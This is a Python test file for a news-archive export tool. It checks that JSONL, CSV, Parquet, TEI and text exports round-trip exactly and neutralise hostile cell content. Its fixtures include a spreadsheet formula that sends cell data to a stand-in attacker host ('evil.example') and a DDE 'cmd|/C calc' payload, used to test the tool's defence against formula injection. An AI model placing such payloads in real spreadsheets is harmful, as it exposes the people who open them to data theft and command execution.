"""Exports hold every article exactly, whatever it says, and cost a spreadsheet nothing."""

import csv
import errno
import json
import os
import pty
import re
import subprocess
import sys
import tracemalloc
from datetime import UTC, datetime
from itertools import islice
from pathlib import Path
from typing import BinaryIO
from xml.etree import ElementTree

import pytest
from click.testing import CliRunner, Result
from hypothesis import given
from hypothesis import strategies as st

from archive import export
from archive.cli import main
from archive.model import Image
from archive.search.find import ask
from archive.store import Archive
from tests.archive.conftest import store
from tests.archive.test_datasette import HOSTILE

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
TEI = "{http://www.tei-c.org/ns/1.0}"


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("export")
    with Archive.open(folder) as archive:
        store(archive)
        store(
            archive, "https://news.example/formula", headline=FORMULA,
            paragraphs=("+1", "-2", "@x, \"quoted\"\r\nline"), authors=("=1+1",), byline="'quoted'",
            published_at=None, publisher="Hostile | Sons",
        )  # fmt: skip
        store(
            archive,
            "https://news.example/arabic",
            headline="الهدنة تصمد",
            paragraphs=("قال المراقبون.",),
            language="ar",
        )
        odd = (HOSTILE, "bell \x07 form \f feed \ufffe", "a ]]> b & c")
        store(archive, "https://news.example/odd", headline=HOSTILE, paragraphs=odd, images=(Image(caption=HOSTILE),))
    return folder


def rows(folder: Path, query: str = "") -> list[export.Row]:
    with Archive.open(folder, write=False) as archive:
        return list(export.articles(archive.connection, ask(archive.connection, query)))


def run(folder: Path, *arguments: str) -> Result:
    return CliRunner().invoke(main, ["export", "--archive", str(folder), *arguments])


@pytest.mark.parametrize(("form", "read"), [("jsonl", export.read_jsonl), ("csv", export.read_csv)])
def test_what_is_written_is_read_back_exactly(folder: Path, tmp_path: Path, form: str, read: object) -> None:
    path = tmp_path / f"all.{form}"
    result = run(folder, "--format", form, "--output", str(path))
    assert result.exit_code == 0, result.output
    assert list(read(path)) == rows(folder)  # type: ignore[operator]
    assert len(rows(folder)) == 4


def test_parquet_is_read_back_exactly(folder: Path, tmp_path: Path) -> None:
    parquet = pytest.importorskip("pyarrow.parquet", reason="pyarrow is not installed")
    run(folder, "--format", "parquet", "--output", str(tmp_path / "all.parquet"))
    found = parquet.read_table(tmp_path / "all.parquet").to_pylist()
    lists = ("authors", "tags", "images", "related")
    assert [{**row, **{name: json.loads(row[name]) for name in lists}} for row in found] == rows(folder)


def test_without_pyarrow_it_says_what_to_do(folder: Path, tmp_path: Path) -> None:
    try:
        import pyarrow  # noqa: F401, PLC0415
    except ImportError:
        result = run(folder, "--format", "parquet", "--output", str(tmp_path / "all.parquet"))
        assert result.exit_code != 0
        assert "pip install -e '.[parquet]'" in result.output


def test_no_cell_is_computed(folder: Path, tmp_path: Path) -> None:
    run(folder, "--format", "csv", "--output", str(tmp_path / "all.csv"))
    with (tmp_path / "all.csv").open(encoding="utf-8", newline="") as stream:
        cells = [cell for row in csv.reader(stream) for cell in row]
    assert any(cell == "'" + FORMULA for cell in cells)
    assert [cell for cell in cells if re.match(r"[=+@\t\r]|-(?!\d+(\.\d+)?$)", cell)] == []


@pytest.mark.parametrize("sign", list("=+-@＝＋－＠﹦﹢﹣﹫−'"))
@pytest.mark.parametrize("before", ["", " ", "\t", "\r", "\n", "\ufeff", "\u200b", "\u00a0\u00ad"], ids=ascii)
def test_whatever_a_spreadsheet_takes_for_a_formula_is_a_text(before: str, sign: str) -> None:
    text = f"{before}{sign}1+cmd|'/C calc'!A0"
    assert export.cell(text) == f"'{text}"
    assert export._value("text", export.cell(text)) == text


def test_a_text_stays_as_it_is_where_nothing_computes_it() -> None:
    for text in ("– Nobody was hurt.", "1-2", "a=b", "«Мир»", "هدنة", "停火", "% of voters"):
        assert export.cell(text) == text


@given(st.text() | st.none() | st.integers() | st.lists(st.text()))
def test_a_cell_says_the_same_again(value: object) -> None:
    name = {str: "text", type(None): "text", int: "id", list: "authors"}[type(value)]
    assert export._value(name, export.cell(value)) == value


def test_tei_is_well_formed_and_has_the_text(folder: Path, tmp_path: Path) -> None:
    run(folder, "--format", "tei", "--output", str(tmp_path / "all.xml"))
    corpus = ElementTree.parse(tmp_path / "all.xml").getroot()
    heads = [head.text for head in corpus.iter(f"{TEI}head")]
    assert heads == [row["headline"] for row in rows(folder)]
    assert [body[1].text for body in corpus.iter(f"{TEI}body")][2] == "قال المراقبون."


def test_text_has_one_article_between_two_form_feeds(folder: Path, tmp_path: Path) -> None:
    run(folder, "--format", "text", "--output", str(tmp_path / "all.txt"))
    articles = (tmp_path / "all.txt").read_text(encoding="utf-8").split("\f\n")
    assert len(articles) == 5
    assert articles[2].startswith("الهدنة تصمد\n")


def test_a_search_is_exported_with_its_card(folder: Path, tmp_path: Path) -> None:
    path = tmp_path / "some.jsonl"
    result = run(folder, "هدنة", "--language", "ar", "--output", str(path))
    assert result.exit_code == 0, result.output
    assert [row["headline"] for row in export.read_jsonl(path)] == ["الهدنة تصمد"]
    card = path.with_name("some.jsonl.card.md").read_text(encoding="utf-8")
    assert "1 articles" in card
    assert "`هدنة language:ar`" in card
    assert "| Tarn Post | 1 |" in card
    assert "licences are unknown" in card
    assert run(folder, "nowhere", "--output", str(path)).exit_code == 1
    assert "الهدنة" in run(folder, "هدنة", "--output", "-").output


def test_the_card_escapes_names(folder: Path) -> None:
    with Archive.open(folder, write=False) as archive:
        held = export.Holdings()
        assert len(list(held.counted(export.articles(archive.connection, ask(archive.connection, ""))))) == 4
        card = export.card(archive.connection, held, asked="", made_at=datetime(2026, 3, 4, tzinfo=UTC))
    assert "| Hostile   Sons | 1 | ? | ? |" in card


def test_a_script_is_told_what_was_written(folder: Path, tmp_path: Path) -> None:
    path = tmp_path / "all.jsonl"
    told = json.loads(run(folder, "--output", str(path), "--json").output)
    assert told == {"articles": 4, "file": str(path), "card": f"{path}.card.md"}


def test_an_export_that_failed_leaves_the_file_that_was_there(
    folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "all.jsonl"
    path.write_text("yesterday's")

    def full(rows: object, _form: str, output: BinaryIO) -> int:
        output.write(b"half")
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(export, "write", full)
    result = run(folder, "--output", str(path))
    assert "No space left" in result.output
    assert result.exit_code == 74
    assert [file.name for file in tmp_path.iterdir()] == ["all.jsonl"]
    assert path.read_text() == "yesterday's"


@pytest.mark.parametrize("form", ["jsonl", "csv", "text", "tei"])
def test_ten_times_the_articles_need_no_more_memory(tmp_path: Path, form: str) -> None:
    """A million would otherwise not fit."""
    with Archive.open(tmp_path) as archive:
        store(archive)
        names = ", ".join(name for (_, name, *_) in archive.connection.execute("PRAGMA table_info(articles)"))
        values = names.replace("canonical_url", "canonical_url || n").replace("id,", "n,", 1)
        with archive.connection:
            archive.connection.execute(
                f"WITH RECURSIVE many (n) AS (SELECT 2 UNION ALL SELECT n + 1 FROM many WHERE n < 1200) "
                f"INSERT INTO articles ({names}) SELECT {values} FROM articles, many"
            )
    peaks = []
    with Archive.open(tmp_path, write=False) as archive, (tmp_path / "out").open("wb") as output:
        for count in (50, 150, 1200):  # the first for what is kept for good
            everything = export.Holdings().counted(export.articles(archive.connection, ask(archive.connection, "")))
            tracemalloc.start()
            assert export.write(islice(everything, count), form, output) == count
            peaks.append(tracemalloc.get_traced_memory()[1])
            tracemalloc.stop()
    assert peaks[2] < 1.5 * peaks[1]


def test_a_terminal_shows_how_far_it_is(folder: Path, tmp_path: Path) -> None:
    """And only a terminal: what a script reads has no bar."""
    program = "from archive.cli import main; main()"
    command = [sys.executable, "-c", program, "export", "--archive", str(folder), "--output"]
    ours, theirs = pty.openpty()
    with os.fdopen(ours, "rb", buffering=0) as terminal:
        subprocess.run([*command, str(tmp_path / "a")], stderr=theirs, check=True, env={**os.environ, "TERM": "xterm"})
        os.close(theirs)
        shown = terminal.read(100_000)
    assert b"Exporting" in shown
    assert b"4/4" in shown
    silent = subprocess.run([*command, str(tmp_path / "b")], capture_output=True, check=True)
    assert silent.stderr == b""
